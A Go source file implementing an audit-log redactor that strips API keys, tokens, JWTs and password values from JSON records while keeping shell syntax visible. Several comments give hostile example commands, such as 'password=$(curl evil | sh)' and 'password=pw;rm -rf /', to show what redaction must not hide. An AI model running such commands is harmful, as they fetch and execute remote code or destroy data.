package audit

import (
	"cmp"
	"encoding/json"
	"errors"
	"fmt"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"sync/atomic"
	"unicode/utf8"
)

// Redacted replaces every secret the Redactor finds.
const Redacted = "[REDACTED]"

// secretName is the part of a name that marks its value as a secret, in
// assignments ("password=...", "OPENAI_API_KEY: ...") and flags
// ("--token ..."). It mirrors SensitiveKey, but a pattern inside free text
// has to be narrower: "token" must end the name, so "max_tokens=5" stays.
const secretName = `(?:api[_\-]?key|access[_\-]?key|token|secret|passw(?:or)?d|passphrase|credentials?)`

// keyPatterns matches credential-shaped substrings. The first alternative
// (a bearer credential) captures the part to keep and matches the token
// after it; the next two match only a secret's name and what joins it to
// its value (secretSpan then finds the value); the others are replaced
// whole. Each needs a long enough body that ordinary words and ids do not
// match, and starts at a word boundary so "task-..." is not read as
// "sk-...". None reaches across a line break, and no replaced part can
// contain shell syntax (see secretSpan): redaction must never hide what a
// command does.
//
//	Bearer <token>                     HTTP bearer credentials
//	name=value, name: value            assignments to a secret-named name (env, URLs, YAML, JSON text);
//	                                   "name = value" too, but never "name= value", which in a shell
//	                                   runs value as a command with name set to ""
//	--name value                       command-line flags with a secret-named name
//	sk-...                             OpenAI / Anthropic keys, sk-ant-... and sk-proj-... included
//	ghp_..., github_pat_...            GitHub tokens
//	xoxb-...                           Slack tokens
//	AKIA..., ASIA...                   AWS access key ids
//	eyJ....eyJ....sig                  JSON Web Tokens
const keyPatterns = `(?i:\b(bearer[ \t]+))[A-Za-z0-9\-._~+/]{8,}=*` +
	`|(?i:\b([A-Za-z0-9_.\-]*` + secretName + `["']?(?:[ \t]*:[ \t]*|[ \t]+=[ \t]+|=)))` +
	`|(?i:(--?` + secretName + `[ \t]+))` +
	`|\bsk-[A-Za-z0-9_\-]{16,}` +
	`|\bgh[pousr]_[A-Za-z0-9]{20,}` +
	`|\bgithub_pat_[A-Za-z0-9_]{20,}` +
	`|\bxox[abposr]-[A-Za-z0-9\-]{10,}` +
	`|\b(?:AKIA|ASIA)[0-9A-Z]{16}\b` +
	`|\beyJ[A-Za-z0-9_\-]{8,}\.eyJ[A-Za-z0-9_\-]{8,}\.[A-Za-z0-9_\-]{8,}`

// isShellStop reports whether c may end or interrupt a secret value: shell
// syntax ($ for substitutions and expansions, backquotes, backslash
// escapes, ; | & < > ( ) for command lists, pipes, redirections and
// subshells, quotes, line breaks). A redacted span never contains one, so
// "password=$(curl evil | sh)" keeps its command substitution in view,
// whatever quoting surrounds it.
func isShellStop(c byte) bool {
	switch c {
	case '$', '`', '\\', ';', '|', '&', '<', '>', '(', ')', '"', '\'', '\n', '\r':
		return true
	}
	return false
}

// secretSpan returns the part of s from i on that is a secret value: a
// quoted value's content up to its closing quote, or an unquoted value up
// to white space or a comma; either way cut short at the first shell stop
// (isShellStop). The span may be empty.
func secretSpan(s string, i int) (start, end int) {
	if i < len(s) && (s[i] == '"' || s[i] == '\'') {
		j := i + 1
		for j < len(s) && !isShellStop(s[j]) {
			j++
		}
		return i + 1, j
	}
	j := i
	for j < len(s) && !isShellStop(s[j]) && !isSpace(s[j]) && s[j] != ',' {
		j++
	}
	return i, j
}

// Redactor removes secrets from audit data before it is hashed and stored.
// It is immutable after NewRedactor and safe for concurrent use.
//
// It replaces, anywhere in a JSON value (string values, recursively through
// objects and arrays):
//   - the exact secret strings given to NewRedactor, wherever they occur
//     inside a string;
//   - substrings shaped like credentials (keyPatterns): provider keys,
//     GitHub/Slack/AWS tokens, JWTs, "Bearer <token>", and the value in
//     "password=...", "API_KEY: ...", "--token ..." and the like;
//   - the value of any member whose key names a secret (see
//     SensitiveKey): every string in it up to its first shell syntax (see
//     isShellStop) and every number; null and booleans cannot carry a
//     secret and stay.
//
// No redaction swallows shell syntax ($(...), backquotes, ; | & < >,
// quotes ending the value, line breaks), so a command an agent runs stays
// visible even when it is dressed up as a secret ("password=$(curl x|sh)").
//
// Object keys themselves are not rewritten: a key is a name chosen by the
// code that logs the event, and rewriting one could make two keys collide.
// Data with a key that holds a secret is refused instead.
type Redactor struct {
	patterns *regexp.Regexp
	exact    *strings.Replacer // nil when there are no exact secrets
	// extra are exact secrets that change while the daemon runs (the
	// brokered secrets' values; SetExtra), nil when there are none.
	extra atomic.Pointer[strings.Replacer]
}

// NewRedactor returns a Redactor that also removes each of secrets (the
// daemon's real API keys and tokens). Empty strings are ignored; anything
// else is taken at its word, so do not pass short common strings.
func NewRedactor(secrets ...string) *Redactor {
	r := &Redactor{patterns: regexp.MustCompile(keyPatterns)}
	r.exact = exactReplacer(secrets)
	return r
}

// exactReplacer replaces each non-empty secret with Redacted; nil for none.
func exactReplacer(secrets []string) *strings.Replacer {
	var list []string
	for _, s := range secrets {
		if s != "" {
			list = append(list, s)
		}
	}
	if len(list) == 0 {
		return nil
	}
	// strings.Replacer tries the old strings in argument order at each
	// position, so longer secrets go first: a secret that contains
	// another must be removed whole, not leave its tail behind.
	slices.SortFunc(list, func(a, b string) int { return cmp.Compare(len(b), len(a)) })
	list = slices.Compact(list)
	pairs := make([]string, 0, 2*len(list))
	for _, s := range list {
		pairs = append(pairs, s, Redacted)
	}
	return strings.NewReplacer(pairs...)
}

// SetExtra replaces the exact secrets that change while the daemon runs
// (the brokered secrets' current values), beside those NewRedactor was
// given. It is safe to call while records are appended; a record
// canonicalised before the call may not see the new set.
func (r *Redactor) SetExtra(secrets []string) {
	r.extra.Store(exactReplacer(secrets))
}

// RedactString returns s with every exact secret and credential-shaped
// substring replaced by "[REDACTED]"; for bearer credentials, assignments and
// flags only the value goes ("Bearer [REDACTED]", "password=[REDACTED]"),
// and a value is redacted only up to the first shell syntax in it
// ("password=$(curl x)" stays as it is, "password=pw;rm -rf /" becomes
// "password=[REDACTED];rm -rf /"): a secret may leak its tail that way, but
// a command can never hide behind a secret's name.
func (r *Redactor) RedactString(s string) string {
	return r.redactPatterns(r.replaceExact(s))
}

// replaceExact replaces the exact secrets.
func (r *Redactor) replaceExact(s string) string {
	if r.exact != nil {
		s = r.exact.Replace(s)
	}
	if x := r.extra.Load(); x != nil {
		s = x.Replace(s)
	}
	return s
}

// needsScan reports whether the patterns must be run over s: the
// expensive part of redaction, which redactBudget bounds.
func needsScan(s string) bool {
	// The shortest thing a pattern matches ("pwd=x" style assignments
	// excluded, which need a longer name) is longer than this; skipping
	// short strings keeps the regexp off the many tiny values (ids, enums).
	return len(s) >= 7 && mayHoldCredential(s)
}

// redactPatterns is RedactString after the exact secrets are replaced.
func (r *Redactor) redactPatterns(s string) string {
	if !needsScan(s) {
		return s
	}
	return r.scanPatterns(s)
}

// scanPatterns runs the patterns over s, for which needsScan is true.
func (r *Redactor) scanPatterns(s string) string {
	var b strings.Builder
	last := 0 // s[:last] is written or replaced
	for from := 0; from < len(s); {
		m := r.patterns.FindStringSubmatchIndex(s[from:])
		if m == nil {
			break
		}
		for k := range m {
			if m[k] >= 0 {
				m[k] += from
			}
		}
		start, end := m[0], m[1]
		redFrom, redTo := start, end // what is replaced
		switch {
		case m[2] >= 0 && start > 0 && s[start-1] == '=':
			// x=Bearer word: in a shell, an assignment and then the
			// command "word"; a real header value would be quoted. The
			// word is still searched for credentials of other shapes.
			from = m[3]
			continue
		case m[2] >= 0: // bearer: keep "Bearer "
			redFrom = m[3]
		case m[4] >= 0 || m[6] >= 0: // a name: the value follows
			redFrom, redTo = secretSpan(s, end)
		}
		if redTo > redFrom {
			if b.Len() == 0 {
				b.Grow(len(s))
			}
			b.WriteString(s[last:redFrom])
			b.WriteString(Redacted)
			last = redTo
		}
		from = max(end, redTo)
		if from == start {
			from++ // an empty match cannot happen, but never loop on one
		}
	}
	if last == 0 {
		return s
	}
	b.WriteString(s[last:])
	return b.String()
}

// redactSecret redacts the value of a secret-named member: the whole of it
// up to the first shell stop (white space included, so a pass phrase goes
// whole), then the rest as any string.
func (r *Redactor) redactSecret(s string) string {
	i := 0
	for i < len(s) && !isShellStop(s[i]) {
		i++
	}
	if i == 0 {
		return r.RedactString(s)
	}
	return Redacted + r.RedactString(s[i:])
}

// mayHoldCredential is a cheap pre-check for keyPatterns: it reports
// whether s holds, ignoring ASCII case, something that every match of some
// alternative contains: a provider-key prefix, "bearer" before white space,
// or a secret name followed by an assignment (quote, white space, ':' or
// '=') or, after a '-', by white space (a flag). Most logged strings,
// including ones that merely mention tokens ("max_tokens=5", "api:token-1"),
// fail it, and the regexp, which costs microseconds per string, runs only
// on the rest. Keep it in step with keyPatterns: an alternative with no
// trigger here would never be applied (TestPrefilterCoversPatterns checks).
// Names spelled with non-ASCII look-alikes that (?i) would fold (the Kelvin
// sign for 'k') are not looked for.
func mayHoldCredential(s string) bool {
	for i := 0; i+2 < len(s); i++ {
		rest := s[i:]
		switch s[i] | 0x20 { // ASCII lower case; harmless for other bytes
		case 'b':
			if hasPrefixFold(rest, "bearer") && len(rest) > 6 && isSpace(rest[6]) {
				return true
			}
		case 'k':
			if hasPrefixFold(rest, "key") && secretNameEnds(s, i, i+3) {
				return true
			}
		case 't':
			if hasPrefixFold(rest, "token") && secretNameEnds(s, i, i+5) {
				return true
			}
		case 's':
			if strings.HasPrefix(rest, "sk-") || hasPrefixFold(rest, "secret") && secretNameEnds(s, i, i+6) {
				return true
			}
		case 'p':
			for _, w := range [...]string{"passwd", "password", "passphrase"} {
				if hasPrefixFold(rest, w) && secretNameEnds(s, i, i+len(w)) {
					return true
				}
			}
		case 'c':
			if hasPrefixFold(rest, "credential") &&
				(secretNameEnds(s, i, i+10) || len(rest) > 10 && rest[10]|0x20 == 's' && secretNameEnds(s, i, i+11)) {
				return true
			}
		case 'g':
			if len(rest) > 3 && rest[0] == 'g' && rest[1] == 'h' && rest[3] == '_' || strings.HasPrefix(rest, "github_pat_") {
				return true
			}
		case 'x':
			if strings.HasPrefix(rest, "xox") {
				return true
			}
		case 'a':
			if strings.HasPrefix(rest, "AKIA") || strings.HasPrefix(rest, "ASIA") {
				return true
			}
		case 'e':
			if strings.HasPrefix(rest, "eyJ") {
				return true
			}
		}
	}
	return false
}

// secretNameEnds reports whether the secret name s[start:end] is followed
// the way keyPatterns' assignment or flag alternatives need: an optional
// quote, optional white space and ':' or '='; or white space, when a '-'
// comes shortly before the name (within the longest secretName prefix,
// "access_", plus the dash).
func secretNameEnds(s string, start, end int) bool {
	j := end
	if j < len(s) && (s[j] == '"' || s[j] == '\'') {
		j++
	}
	for j < len(s) && isSpace(s[j]) {
		j++
	}
	if j < len(s) && (s[j] == ':' || s[j] == '=') {
		return true
	}
	if end < len(s) && isSpace(s[end]) {
		from := max(0, start-8)
		return strings.IndexByte(s[from:start], '-') >= 0
	}
	return false
}

// isSpace is the regexp \s class.
func isSpace(c byte) bool {
	return c == ' ' || c == '\t' || c == '\n' || c == '\f' || c == '\r'
}

// hasPrefixFold is strings.HasPrefix ignoring ASCII case; prefix is lower
// case.
func hasPrefixFold(s, prefix string) bool {
	if len(s) < len(prefix) {
		return false
	}
	for i := 0; i < len(prefix); i++ {
		if s[i]|0x20 != prefix[i] {
			return false
		}
	}
	return true
}

// SensitiveKey reports whether an object member named key holds a secret.
// The name is lower-cased and stripped of everything but letters and digits
// (so "X-Api-Key", "api_key" and "apiKey" are all "apikey"); it is sensitive
// if it contains apikey, secret, password, passwd, passphrase,
// authorization, credential, privatekey, accesskey or cookie, or ends in
// token. "token" is matched only at the end because model usage data is full
// of keys like "max_tokens" and "token_count" that are counts, not secrets.
func SensitiveKey(key string) bool {
	var buf [64]byte
	n := buf[:0]
	for i := 0; i < len(key); i++ {
		c := key[i]
		switch {
		case c >= 'a' && c <= 'z', c >= '0' && c <= '9':
			n = append(n, c)
		case c >= 'A' && c <= 'Z':
			n = append(n, c+('a'-'A'))
		}
	}
	norm := string(n)
	for _, s := range [...]string{"apikey", "secret", "password", "passwd", "passphrase",
		"authorization", "credential", "privatekey", "accesskey", "cookie"} {
		if strings.Contains(norm, s) {
			return true
		}
	}
	return strings.HasSuffix(norm, "token")
}

// checkKey refuses an object key that holds a secret. Keys are not
// rewritten (see Redactor), but silently storing one that is, say, a map
// keyed by API token would leak it, so the entry is refused instead.
func (r *Redactor) checkKey(key string) error {
	if r.RedactString(key) != key {
		return errors.New("audit: an object key in data contains a secret; key the data by something else")
	}
	return nil
}

// redactValue rewrites v in place (objects and arrays) and returns the new
// value (strings). secret says v is (inside) the value of a secret-named
// member: its strings go through redactSecret and its numbers become
// "[REDACTED]". Strings over MaxStringBytes come back elided (see
// elidedObject).
func (r *canon) redactValue(v any, secret bool) (any, error) {
	switch t := v.(type) {
	case string:
		return r.text(t, secret), nil
	case json.Number:
		if secret {
			return Redacted, nil
		}
		return t, nil
	case []any:
		for i := range t {
			e, err := r.redactValue(t[i], secret)
			if err != nil {
				return nil, err
			}
			t[i] = e
		}
		return t, nil
	case *object:
		for i := range t.members {
			m := &t.members[i]
			if err := r.checkKey(m.key); err != nil {
				return nil, err
			}
			e, err := r.redactValue(m.val, secret || SensitiveKey(m.key))
			if err != nil {
				return nil, err
			}
			m.val = e
		}
		return t, nil
	}
	return v, nil
}

// canon is one Canonicalize call: the Redactor and how much more string
// text its pattern redaction may scan.
type canon struct {
	*Redactor
	budget int
}

// redactBudget bounds the string bytes the pattern redaction scans for one
// record. The regular expression costs about a microsecond per match, so a
// megabyte of "token=a " would otherwise cost a second of CPU per record.
// Strings that cannot hold a credential (mayHoldCredential) cost nothing;
// past the budget, the others are stored elided without a clear prefix.
// The bound is well above what a record can keep verbatim (MaxDataBytes),
// so no ordinary record comes near it.
const redactBudget = 64 << 10

func (r *Redactor) newCanon() *canon { return &canon{Redactor: r, budget: redactBudget} }

// text redacts a string value and bounds it: the parsed-tree counterpart
// of appendText. A string too long to keep (over MaxStringBytes, before or
// after redaction) or beyond the record's redaction budget becomes an
// elided object (elidedObject): its prefix is the redacted beginning of the
// string, its length and SHA-256 are of the whole string with the exact
// secrets replaced. So the daemon's own secrets never enter the hash, and
// the rest of a long string is hashed rather than scanned: a SHA-256 does
// not reveal a credential in it unless a reader can guess everything else.
func (r *canon) text(s string, secret bool) any {
	red, whole, kept := r.bound(s, secret)
	if kept {
		return red
	}
	return elidedObject(elidedString, whole, red)
}

// bound redacts and bounds a string value: kept says it is stored as red;
// otherwise it is elided, red being the elided prefix and whole what the
// length and SHA-256 are of (s with its exact secrets replaced).
func (r *canon) bound(s string, secret bool) (red, whole string, kept bool) {
	whole = r.replaceExact(s)
	if len(whole) <= MaxStringBytes {
		if red, ok := r.redactBudgeted(whole, secret); ok && len(red) <= MaxStringBytes {
			return red, "", true
		}
	}
	return r.elidedPrefix(whole, secret), whole, false
}

// elidedPrefix is the clear prefix of an elided string: its beginning,
// redacted, or "" once the record's redaction budget is spent. A little
// more than the prefix is redacted, so a credential cut by the prefix's end
// is still recognised.
func (r *canon) elidedPrefix(whole string, secret bool) string {
	head := whole[:min(len(whole), ElidedPrefixBytes+512)]
	prefix, ok := r.redactBudgeted(head, secret)
	if !ok {
		return ""
	}
	return prefix
}

// redactBudgeted redacts s (its exact secrets already replaced), unless
// the patterns would have to scan more than the budget left.
func (r *canon) redactBudgeted(s string, secret bool) (string, bool) {
	scan := needsScan(s)
	if scan {
		if len(s) > r.budget {
			return "", false
		}
		r.budget -= len(s)
	}
	switch {
	case secret:
		return r.redactSecret(s), true
	case scan:
		return r.scanPatterns(s), true
	}
	return s, true // the common case: one cheap pass, no regexp
}

// appendText appends a string value, redacted and bounded (as text).
func (r *canon) appendText(b []byte, s string, secret bool) []byte {
	red, whole, kept := r.bound(s, secret)
	if kept {
		return appendString(b, red)
	}
	return appendElided(b, elidedString, whole, red)
}

// Canonicalize marshals data (any value encoding/json accepts; a
// json.RawMessage or []byte holding JSON text is used as is; nil means {}),
// requires it to be a JSON object, redacts and bounds it and returns its
// canonical JSON text: exactly the bytes Log.Append would hash and store.
//
// Bounds: a string value longer than MaxStringBytes (after redaction) is
// replaced by an object holding its first ElidedPrefixBytes, its byte
// length and its SHA-256 (see elidedObject); if the data is then still
// over MaxDataBytes, its largest top-level members are replaced the same
// way (the SHA-256 then covers the member's canonical JSON text), and if
// that is not enough (thousands of small members), the whole data is. So
// no record's data exceeds MaxDataBytes, and the values that fit (an exit
// code next to a huge argv) stay readable.
func (r *Redactor) Canonicalize(data any) ([]byte, error) {
	out, err := r.canonicalize(data)
	if err != nil {
		return nil, err
	}
	if len(out) > MaxDataBytes {
		out = shrink(out)
	}
	return out, nil
}

func (r *Redactor) canonicalize(data any) ([]byte, error) {
	switch t := data.(type) {
	case nil:
		return []byte("{}"), nil
	case map[string]any:
		// The common case, encoded straight from the map: marshalling it to
		// JSON and parsing that back was most of Append's CPU cost.
		if t != nil {
			return r.newCanon().appendValue(make([]byte, 0, 256), t, false)
		}
	case map[string]string:
		if t != nil {
			return r.newCanon().appendValue(make([]byte, 0, 256), t, false)
		}
	}
	return r.canonicalizeSlow(data)
}

// canonicalizeSlow is canonicalize through encoding/json: marshal, parse,
// redact the tree, encode. It defines the result; appendValue must produce
// the same bytes for the values it handles (TestCanonicalizeFastPath).
func (r *Redactor) canonicalizeSlow(data any) ([]byte, error) {
	var raw []byte
	switch t := data.(type) {
	case nil:
		return []byte("{}"), nil
	case json.RawMessage:
		raw = t
	case []byte:
		raw = t
	default:
		b, err := json.Marshal(data)
		if err != nil {
			return nil, fmt.Errorf("audit: marshal data: %w", err)
		}
		raw = b
	}
	v, err := parseJSON(raw)
	if err != nil {
		return nil, fmt.Errorf("audit: data is not valid JSON: %w", err)
	}
	if _, ok := v.(*object); !ok {
		return nil, fmt.Errorf("audit: data must be a JSON object, got %s", jsonKind(v))
	}
	if v, err = r.newCanon().redactValue(v, false); err != nil {
		return nil, err
	}
	return appendCanonical(make([]byte, 0, len(raw)), v), nil
}

// appendValue appends the redacted canonical JSON of a Go value. It handles
// the types audit data is usually built from directly and hands anything
// else (structs, floats, named types, custom marshalers) to encoding/json
// via marshalValue, so the output is the same either way. secret is as for
// redactValue.
func (r *canon) appendValue(b []byte, v any, secret bool) ([]byte, error) {
	if secret {
		switch v.(type) {
		case int, int64, int32, uint64, uint32:
			return appendString(b, Redacted), nil
		}
	}
	switch t := v.(type) {
	case nil:
		return append(b, "null"...), nil
	case bool:
		if t {
			return append(b, "true"...), nil
		}
		return append(b, "false"...), nil
	case string:
		return r.appendText(b, t, secret), nil
	case int:
		return strconv.AppendInt(b, int64(t), 10), nil
	case int64:
		return strconv.AppendInt(b, t, 10), nil
	case int32:
		return strconv.AppendInt(b, int64(t), 10), nil
	case uint64:
		return strconv.AppendUint(b, t, 10), nil
	case uint32:
		return strconv.AppendUint(b, uint64(t), 10), nil
	case []string:
		if t == nil {
			return append(b, "null"...), nil // as encoding/json writes a nil slice
		}
		b = append(b, '[')
		for i, s := range t {
			if i > 0 {
				b = append(b, ',')
			}
			b = r.appendText(b, s, secret)
		}
		return append(b, ']'), nil
	case []any:
		if t == nil {
			return append(b, "null"...), nil
		}
		b = append(b, '[')
		for i, e := range t {
			if i > 0 {
				b = append(b, ',')
			}
			var err error
			if b, err = r.appendValue(b, e, secret); err != nil {
				return nil, err
			}
		}
		return append(b, ']'), nil
	case map[string]any:
		if t == nil {
			return append(b, "null"...), nil
		}
		return appendObject(r, b, v, t, secret, func(b []byte, k string, e any) ([]byte, error) {
			return r.appendValue(b, e, secret || SensitiveKey(k))
		})
	case map[string]string:
		if t == nil {
			return append(b, "null"...), nil
		}
		return appendObject(r, b, v, t, secret, func(b []byte, k, s string) ([]byte, error) {
			return r.appendText(b, s, secret || SensitiveKey(k)), nil
		})
	}
	return r.marshalValue(b, v, secret)
}

// appendObject appends m with sorted keys, each member's value through
// member. Typed maps skip boxing every value into an any; v is m itself, for
// the marshalling fallback when keys cannot be sorted canonically.
func appendObject[V any](r *canon, b []byte, v any, m map[string]V, secret bool, member func([]byte, string, V) ([]byte, error)) ([]byte, error) {
	keys, ok := sortedKeys(m)
	if !ok {
		return r.marshalValue(b, v, secret)
	}
	b = append(b, '{')
	for i, k := range keys {
		if i > 0 {
			b = append(b, ',')
		}
		if err := r.checkKey(k); err != nil {
			return nil, err
		}
		b = appendString(b, k)
		b = append(b, ':')
		var err error
		if b, err = member(b, k, m[k]); err != nil {
			return nil, err
		}
	}
	return append(b, '}'), nil
}

// marshalValue is the slow path for one value: through encoding/json and
// the parser, then redacted and encoded like any parsed value.
func (r *canon) marshalValue(b []byte, v any, secret bool) ([]byte, error) {
	var raw []byte
	switch t := v.(type) {
	case json.RawMessage:
		raw = t
		if len(raw) == 0 {
			raw = []byte("null") // what encoding/json writes for it
		}
	default:
		m, err := json.Marshal(v)
		if err != nil {
			return nil, fmt.Errorf("audit: marshal data: %w", err)
		}
		raw = m
	}
	tree, err := parseJSON(raw)
	if err != nil {
		return nil, fmt.Errorf("audit: data is not valid JSON: %w", err)
	}
	if tree, err = r.redactValue(tree, secret); err != nil {
		return nil, err
	}
	return appendCanonical(b, tree), nil
}

// sortedKeys returns m's keys in byte order, as the canonical form
// requires. It reports false if a key is not valid UTF-8: encoding/json
// rewrites such keys (which can change their order or make two equal), so
// those maps take the slow path.
func sortedKeys[V any](m map[string]V) ([]string, bool) {
	keys := make([]string, 0, len(m))
	for k := range m {
		if !utf8.ValidString(k) {
			return nil, false
		}
		keys = append(keys, k)
	}
	slices.Sort(keys)
	return keys, true
}

func jsonKind(v any) string {
	switch v.(type) {
	case nil:
		return "null"
	case bool:
		return "a boolean"
	case json.Number:
		return "a number"
	case string:
		return "a string"
	case []any:
		return "an array"
	}
	return "an object"
}
